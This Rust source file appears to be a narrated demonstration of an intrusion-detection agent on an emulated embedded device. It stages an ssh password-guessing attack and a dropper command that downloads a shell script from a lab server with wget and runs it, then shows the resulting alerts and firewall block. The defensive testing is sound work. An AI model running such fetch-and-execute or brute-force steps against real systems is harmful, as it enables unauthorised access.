//! The narrated show: one attack from the first wrong password to the closed door, printed as it happens.

use std::collections::HashSet;
use std::net::IpAddr;
use std::thread;
use std::time::{Duration, Instant};

use crate::attack::Reached;
use crate::device::{class, Event};
use crate::error::{Error, Result};
use crate::image::{Image, DEVICE_PASSWORD, DEVICE_USER};
use crate::lab::{Lab, Node, GUEST_V4};
use crate::progress::{say, step};
use crate::qemu::{Machine, Setup};
use crate::workspace::Workspace;

const CONNECT: Duration = Duration::from_secs(3);
const REPORT: Duration = Duration::from_secs(20);

/// Shows the whole path on `image`.
///
/// # Errors
/// When a step of it does not happen.
pub fn show(workspace: &Workspace, image: &Image) -> Result<()> {
    let lab = Lab::new()?;
    let attacker = lab.node(66)?;
    let neighbour = lab.node(77)?;

    headline("The device");
    let setup = Setup::new(workspace, image, "demo")?;
    say(format_args!(
        "a {} product, read-only root, 1 processor ({:?}), {} MiB; console: {}",
        image.flavour.name(),
        setup.accelerator,
        setup.memory,
        setup.directory.join("console.log").display()
    ));
    let mut machine = step("switching it on", || Machine::boot(setup, &lab))?;
    step("waiting until it is on the network and the agent is armed", || -> Result<()> {
        let up = |_: &mut Machine| Ok(lab.ssh_answers().map_err(|target| format!("no answer from {target}")));
        machine.wait("ssh answers", Duration::from_secs(120), up)?;
        machine.wait_armed()
    })?;
    quote(&machine.ok("defender status")?);

    headline("An attacker guesses passwords over ssh");
    say(format_args!("{} tries to log in as `{DEVICE_USER}`; {} stands by", attacker.v4, neighbour.v4));
    let mut told = HashSet::new();
    let start = Instant::now();
    thread::scope(|scope| {
        let attack = scope.spawn(|| attacker.guess_passwords(GUEST_V4, DEVICE_USER, 15));
        while !attack.is_finished() && start.elapsed() < Duration::from_secs(180) {
            tell(&mut machine, attacker.v4, &mut told)?;
            thread::sleep(Duration::from_millis(200));
        }
        attack.join().unwrap_or_else(|_| Err(Error::Unexpected("the attack panicked".into())))
    })?;
    let alert =
        machine.event("an alert", &attacker.v4.to_string(), REPORT, |e| e.is_alert_about(attacker.v4))?;
    let block = machine.event("a verified block", &attacker.v4.to_string(), REPORT, |e| {
        e.class() == class::REMEDIATION && e.at("/status_id") == 1
    })?;
    tell(&mut machine, attacker.v4, &mut told)?;
    say(format_args!(
        "from the last failed login that counted to the verified block: {} ms by the events' own times",
        milliseconds(&block, "/time") - milliseconds(&alert, "/finding_info/last_seen_time")
    ));

    headline("The door is closed, for the attacker only");
    show_connection(&attacker, "the attacker's next connection", Reached::Silence)?;
    show_connection(&neighbour, "another host's connection", Reached::Open)?;
    say("the kernel's set:");
    quote(&machine.ok("nft list table inet defender | grep -A5 'set blocked'")?);

    headline("Someone who knows the password runs a dropper");
    let thief = lab.node(88)?;
    let server = thief.serve(8000, "#!/bin/sh\necho payload runs as $(id -un)\n")?;
    let command =
        format!("cd /tmp; busybox wget -q http://{}:8000/x.sh -O x.sh; chmod +x x.sh; ./x.sh", thief.v4);
    say(format_args!("{}$ ssh {DEVICE_USER}@{GUEST_V4} '{command}'", thief.v4));
    let output = thief.ssh(GUEST_V4, DEVICE_USER, DEVICE_PASSWORD, 1, &command)?;
    quote(&String::from_utf8_lossy(&output.stdout));
    for (peer, request) in server.requests() {
        say(format_args!("the attacker's server saw: {} {request}", peer.ip().to_canonical()));
    }
    let dropped =
        machine.event("an alert about the dropper", "x.sh", REPORT, |e| e.class() == class::FINDING)?;
    describe(&dropped);

    headline("The same over D-Bus");
    quote(&machine.dbus("ListBlocked", "")?);
    let alerts = machine.dbus("GetAlerts", "uint32:0")?;
    say(format_args!("GetAlerts returns {} findings", alerts.matches("string \"").count()));

    headline("The alert as every sink carries it: one OCSF line");
    println!("{}", alert.0);

    step("switching it off", || machine.shut_down())?;
    say("done");
    Ok(())
}

fn headline(text: &str) {
    println!();
    say(format_args!("--- {text}"));
}

fn quote(text: &str) {
    for line in text.lines() {
        println!("             | {line}");
    }
}

fn show_connection(from: &Node, what: &str, expected: Reached) -> Result<()> {
    let start = Instant::now();
    let reached = from.connect(GUEST_V4, 22, CONNECT)?;
    let answer = match reached {
        Reached::Open => "established",
        Reached::Refused => "refused",
        Reached::Silence => "no answer: packets are dropped",
    };
    say(format_args!("{what}, from {}: {answer} ({:.1} s)", from.v4, start.elapsed().as_secs_f64()));
    if reached == expected {
        Ok(())
    } else {
        Err(Error::Unexpected(format!("{what}: {reached:?}, not {expected:?}")))
    }
}

/// Prints what was reported about `source` since the last time.
fn tell(machine: &mut Machine, source: IpAddr, told: &mut HashSet<String>) -> Result<()> {
    for event in machine.events(&source.to_string())? {
        if told.insert(event.identity()) {
            describe(&event);
        }
    }
    Ok(())
}

fn describe(event: &Event) {
    let text = |pointer: &str| event.at(pointer).as_str().unwrap_or("?").to_owned();
    match event.class() {
        class::AUTHENTICATION => {
            let outcome = if event.at("/status_id") == 1 { "succeeded" } else { "failed" };
            say(format_args!(
                "seen     login of `{}` over {} from {} {outcome}",
                text("/user/name"),
                text("/service/name"),
                text("/src_endpoint/ip")
            ));
        }
        class::FINDING => {
            say(format_args!("ALERT    [severity {}] {}", event.severity(), text("/finding_info/title")));
            say(format_args!("         {}", text("/message")));
            for evidence in event.at("/evidences").as_array().into_iter().flatten() {
                let process = &evidence["process"];
                if let Some(line) = process["cmd_line"].as_str() {
                    let parent = &process["parent_process"];
                    say(format_args!("         process {}: {line}", process["pid"]));
                    say(format_args!(
                        "         started by {}: {}",
                        parent["pid"],
                        parent["cmd_line"].as_str().unwrap_or("?")
                    ));
                }
            }
        }
        class::REMEDIATION => {
            let outcome =
                if event.at("/status_id") == 1 { "in force, read back from the kernel" } else { "FAILED" };
            say(format_args!(
                "BLOCK    {} for {} s: {outcome}",
                text("/observables/0/value"),
                event.at("/unmapped/seconds")
            ));
        }
        _ => {}
    }
}

fn milliseconds(event: &Event, pointer: &str) -> i64 {
    event.at(pointer).as_i64().unwrap_or_default()
}
